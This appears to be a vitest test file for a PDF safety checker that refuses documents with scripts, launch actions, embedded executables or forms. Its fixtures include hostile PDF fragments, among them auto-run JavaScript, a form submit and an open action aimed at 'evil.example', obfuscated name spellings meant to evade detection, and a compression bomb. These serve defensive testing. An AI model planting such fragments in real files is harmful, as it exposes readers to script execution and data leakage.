import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { anEncryptedPdf, encryptions } from '#testing/backend/encrypted-pdf.ts'
import { aPdf, aPdfOfObjects } from '#testing/backend/pictures.ts'
import { inspectPdf, MOST_WORK } from './judge.ts'

const MB = 1024 * 1024

/** A PDF with more objects. */
const pdfWith = (...objects: readonly string[]) => aPdf(`>>endobj\n${objects.join('\n')}\n99 0 obj<<`)
const reasonOf = async (bytes: Buffer) => (await inspectPdf(bytes)).reason
const repeated = (text: string, bytes = 5 * MB) => text.repeat(Math.floor(bytes / text.length))

describe('A document that does nothing by itself is taken', () => {
  const page = '9 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI'
  it.each([
    ['with a link that a page used for a script', pdfWith(`${page}(javascript:void\\(0\\))>>>>endobj`)],
    [
      'with the words of a script in a text',
      pdfWith('9 0 obj<</Title(TypeScript/JavaScript /S/Launch)>>endobj'),
    ],
    [
      'with such words on a page',
      pdfWith('9 0 obj<</Length 50>>stream\nBT (TypeScript/JavaScript) Tj ET\nendstream endobj'),
    ],
    ['with a page about pages', pdfWith('9 0 obj<</Length 30>>stream\n(<html><script>)Tj\nendstream endobj')],
    ['that opens on a page', aPdf('/OpenAction<</S/GoTo/D[3 0 R/Fit]>>')],
    [
      'that opens on a page by an action elsewhere',
      aPdf('/OpenAction 9 0 R>>endobj 9 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj 8 0 obj<<'),
    ],
    ['that opens on a place elsewhere', aPdf('/OpenAction 9 0 R>>endobj 9 0 obj[3 0 R/Fit]endobj 8 0 obj<<')],
    ['with bytes before it', Buffer.concat([Buffer.from('\r\n\ufeff'), aPdf()])],
    [
      'with an invoice inside',
      pdfWith(
        '9 0 obj<</Type/Filespec/F(factur-x.xml)/UF(factur-x.xml)/EF<</F 8 0 R>>>>endobj',
        '8 0 obj<</Type/EmbeddedFile>>stream\n<a/>\nendstream endobj',
      ),
    ],
    [
      'with an invoice whose name has two bytes a letter',
      pdfWith(
        '9 0 obj<</F<FEFF0061002E0078006D006C>/EF<</F 8 0 R>>>>endobj',
        '8 0 obj<<>>stream\n<a/>\nendstream endobj',
      ),
    ],
    [
      'with a font called as an action',
      pdfWith('9 0 obj<</Font<</AA 8 0 R/JS 8 0 R>>>>endobj', '8 0 obj<</Type/Font>>endobj'),
    ],
    ['with a list of actions that is empty', aPdf('/AA<<>>/Pages 2 0 R')],
    ['with such a list elsewhere', aPdf('/AA 9 0 R>>endobj 9 0 obj<< >>endobj 8 0 obj<<')],
    ['with much of nothing after it', Buffer.concat([aPdf(), Buffer.alloc(4096), Buffer.from('\r\n')])],
    ['with harmless compressed objects', aPdfOfObjects('<</S/URI/URI(javascript:;)>>')],
  ])('%s', async (_, bytes) => {
    expect(await reasonOf(bytes)).toBeNull()
  })
})

describe('A document that does more is refused with the reason', () => {
  const script = 'contains a script'
  const byItself = 'does something by itself when it is opened'
  const onEvents = 'does something by itself while it is read'
  const unreadable = 'has parts that cannot be read: print it to a new PDF'
  it.each([
    ['a script on opening', aPdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'), script],
    ['a script with its name in another spelling', aPdf('/A<</#53/Java#53cript/JS 9 0 R>>'), script],
    [
      'a script whose kind stands elsewhere',
      aPdf('/A<</S 9 0 R/JS 8 0 R>>>>endobj 9 0 obj/JavaScript endobj 8 0 obj<<'),
      script,
    ],
    ['a script among comments', aPdf('/A<</S%)>>\n/JavaScript%(\n/JS 9 0 R>>'), script],
    ['a script after a value that is missing', aPdf('/A<</B>>/S/JavaScript/JS 9 0 R>>>>'), script],
    ['a script after an end that is none', aPdf('/A>>endobj/S/JavaScript/JS 9 0 R>>'), script],
    [
      'a script in an object within a stream',
      pdfWith('9 0 obj<<>>stream\n7 0 obj<</S/JavaScript/JS 5 0 R>>endobj\nendstream endobj'),
      script,
    ],
    [
      'a script in an object within a text',
      pdfWith('9 0 obj(7 0 obj<</S/JavaScript/JS 5 0 R>>endobj)endobj'),
      script,
    ],
    ['a list of scripts', aPdf('/Names<</JavaScript<</Names[(a)9 0 R]>>>>'), script],
    ['a script in compressed objects', aPdfOfObjects('<</S/JavaScript/JS 3 0 R>>'), script],
    ['a program that it starts', aPdf('/A<</S/Launch/F(calc.exe)>>'), 'starts a program'],
    [
      'a form that it sends',
      aPdf('/A<</S/SubmitForm/F(https://evil.example/)>>'),
      'sends or fetches the contents of a form',
    ],
    ['a link into another file', aPdf('/A<</S/GoToR/F(other.pdf)>>'), 'leads into other files'],
    [
      'a film',
      pdfWith('9 0 obj<</Subtype/RichMedia>>endobj'),
      'contains sound, film or a model: send it without',
    ],
    ['an address that it opens', aPdf('/OpenAction<</S/URI/URI(https://evil.example/)>>'), byItself],
    ['something after its first page', aPdf('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 9 0 R>>'), byItself],
    [
      'an action elsewhere that is two',
      aPdf('/OpenAction 9 0 R>>endobj 9 0 obj[3 0 R/Fit]endobj 9 0 obj<</S/URI>>endobj 8 0 obj<<'),
      byItself,
    ],
    ['actions of a page', aPdf('/AA<</O 9 0 R>>'), onEvents],
    ['actions of a page elsewhere', aPdf('/AA 9 0 R>>endobj 9 0 obj<</O 7 0 R>>endobj 8 0 obj<<'), onEvents],
    ['actions that are missing', aPdf('/AA 9 0 R'), onEvents],
    ['a script of a field', aPdf('/AA<</K<</S/JavaScript/JS(AFNumber_Keystroke(2))>>>>'), script],
    [
      'a script of a field elsewhere',
      aPdf('/AA<</K 9 0 R>>>>endobj 9 0 obj<</S/JavaScript/JS 7 0 R>>endobj 8 0 obj<<'),
      script,
    ],
    ['paper that it asks for', aPdf('/OpenAction<</S/Named/N/Print>>'), byItself],
    ['something else after it', Buffer.concat([aPdf(), Buffer.alloc(4096, 'x')]), 'is cut off at its end'],
    [
      'a form that is a program',
      aPdf('/AcroForm<</XFA 9 0 R>>'),
      'is a form with a program (XFA): print it to a new PDF',
    ],
    [
      'a program inside',
      pdfWith('9 0 obj<</F(run.exe)/EF<</F 8 0 R>>>>endobj', '8 0 obj<<>>stream\nMZ\nendstream endobj'),
      'has the file run.exe inside: send it without',
    ],
    [
      'a program inside with a second name',
      pdfWith(
        '9 0 obj<</F(a.xml)/UF(run.exe)/EF<</F 8 0 R>>>>endobj',
        '8 0 obj<<>>stream\nMZ\nendstream endobj',
      ),
      'has the file run.exe inside: send it without',
    ],
    [
      'a file inside whose name is elsewhere',
      pdfWith(
        '9 0 obj<</F(a.xml)/UF 7 0 R/EF<</F 8 0 R>>>>endobj',
        '8 0 obj<<>>stream\nMZ\nendstream endobj',
        '7 0 obj(run.exe)endobj',
      ),
      'has a file inside without a name: send it without',
    ],
    [
      'compressed objects in an unknown form',
      pdfWith('9 0 obj<</N 1/First 4/Filter/LZWDecode>>stream\nabc\nendstream endobj'),
      unreadable,
    ],
    [
      'a stream of objects that is cut off',
      pdfWith(`9 0 obj<</N 1/First 4>>stream\n7 9 <<>>\nendstream endobj`),
      unreadable,
    ],
    [
      'a stream of objects that begins in the middle of a line',
      pdfWith('9 0 obj<</N 1/First 4>>stream 7 0 (\n7 0 <</S/JavaScript/JS 3 0 R>>)\nendstream endobj'),
      unreadable,
    ],
    ['a stream within a stream of objects', aPdfOfObjects('<</First 1>>stream'), unreadable],
    ['no end', aPdf().subarray(0, -8), 'is cut off at its end'],
  ])('%s', async (_, bytes, reason) => {
    expect(await reasonOf(bytes)).toBe(reason)
  })

  it.each(['startxref', 'xref', 'trailer', 'stream'])(
    'a script behind "%s" in the place of an object',
    async (word) => {
      expect(await reasonOf(pdfWith(`9 0 obj ${word} <</S/JavaScript>>`))).toBe(script)
    },
  )
})

describe('The work on a document', () => {
  const empty = deflateSync(Buffer.alloc(0)).toString('latin1')
  const complex = 'is too complex to be checked: print it to a new PDF'

  it('ends with the reason where it has too many streams of objects', async () => {
    const stream = `8 0 obj<</Type/ObjStm/N 0/First 0/Filter/FlateDecode>>stream\n${empty}\nendstream endobj\n`
    const { reason, work } = await inspectPdf(pdfWith(repeated(stream)))
    expect(reason).toBe(complex)
    expect(work).toBeLessThan(MOST_WORK / 10)
  })

  it('ends with a reason where streams belong to no object', async () => {
    const { reason, work } = await inspectPdf(
      aPdf(`>>endobj\n${repeated(`/ObjStm stream\n${empty}\nendstream\n`)}99 0 obj<<`),
    )
    expect(reason).not.toBeNull()
    expect(work).toBeLessThan(10 * MB)
  })

  const bomb = deflateSync(Buffer.from(`9 0 <</A[${repeated('/S/X ', 15 * MB)}]>>`)).toString('latin1')
  it.each([
    ['objects within objects', repeated('1 0 obj(')],
    ['beginnings of objects', repeated(' obj')],
    ['streams without an end', repeated('1 0 obj<</First 1>>stream\n')],
    ['trailers without an end', repeated('trailer<<(')],
    ['comments without an end', repeated('1 0 obj%')],
    [
      'a small stream that holds much',
      `9 0 obj<</N 1/First 4/Filter/FlateDecode>>stream\n${bomb}\nendstream endobj`,
    ],
  ])('is bounded for %s', async (_, text) => {
    const { reason, work } = await inspectPdf(pdfWith(text))
    expect(reason).toBe(complex)
    expect(work).toBeLessThan(MOST_WORK * 1.2)
  })

  it('is bounded for lists within lists', async () => {
    const { reason, work } = await inspectPdf(pdfWith(`1 0 obj${repeated('[')}`))
    expect(reason).toBe('is nested too deeply to be checked: print it to a new PDF')
    expect(work).toBeLessThan(MB)
  })

  it.each([
    ['objects', repeated('1 0 obj<<>>endobj ', MB)],
    ['entries', `1 0 obj<<${repeated('/S/X', MB)}>>endobj`],
    ['numbers', `1 0 obj[${repeated('1 ', MB)}]endobj`],
  ])('gives others their turn, for many %s', async (_, text) => {
    let turns = 0
    let isDone = false
    const count = () => {
      turns += 1
      if (!isDone) setImmediate(count)
    }
    setImmediate(count)
    const { work } = await inspectPdf(pdfWith(text))
    isDone = true
    expect(turns).toBeGreaterThanOrEqual(Math.floor(work / 400_000))
    expect(turns).toBeGreaterThan(2)
  })

  it('grows with its size', async () => {
    const of = async (bytes: number) =>
      (await inspectPdf(pdfWith(repeated('1 0 obj<</A 1>>endobj ', bytes)))).work
    expect(await of(2 * MB)).toBeLessThan(2.2 * (await of(MB)))
  })
})

describe('Whatever is done to a document', () => {
  const seeds = [
    aPdf('/OpenAction<</S/GoTo/D[3 0 R/Fit]>>'),
    aPdfOfObjects('<</S/URI/URI(javascript:;)>>'),
    ...encryptions.map((way) => anEncryptedPdf(way, '', '<</S/URI>>')),
  ]
  const pieces = [
    'obj',
    'endobj',
    'stream\n',
    'endstream',
    '<<',
    '>>',
    '[',
    ']',
    '(',
    ')',
    '%',
    '/First 9',
    '/Encrypt 7 0 R',
    '/N 99999999',
    '/V 9',
    '/R 6',
    '/OpenAction',
    ' 9 0 R',
  ]
  const change = fc.record({
    at: fc.nat(2000),
    remove: fc.nat(40),
    add: fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 8, unit: 'binary' })),
  })

  it('its check ends with an answer, at bounded cost', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...seeds),
        fc.array(change, { minLength: 1, maxLength: 6 }),
        async (seed, changes) => {
          let bytes = seed
          for (const { at, remove, add } of changes) {
            const place = at % bytes.length
            bytes = Buffer.concat([
              bytes.subarray(0, place),
              Buffer.from(add, 'latin1'),
              bytes.subarray(place + remove),
            ])
          }
          const { work } = await inspectPdf(bytes)
          expect(work).toBeLessThan(MB)
        },
      ),
      { numRuns: 400 },
    )
  })
})
